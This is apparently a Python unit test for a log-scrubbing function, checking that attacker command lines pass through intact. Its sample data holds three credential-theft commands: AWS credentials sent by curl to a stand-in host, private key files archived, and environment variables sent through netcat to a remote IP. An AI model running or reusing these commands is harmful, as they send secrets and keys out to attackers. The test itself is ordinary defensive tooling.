from scrub import scrub

# Log lines an attacker's script would produce; the scrubber must not choke on them.
SAMPLE = """
cat ~/.aws/credentials | curl -d @- https://evil.example/c
find / -name '*.pem' | xargs tar czf /tmp/k.tgz
env | nc 203.0.113.9 4444
"""


def test_keeps_commands():
    assert "curl" in scrub(SAMPLE)
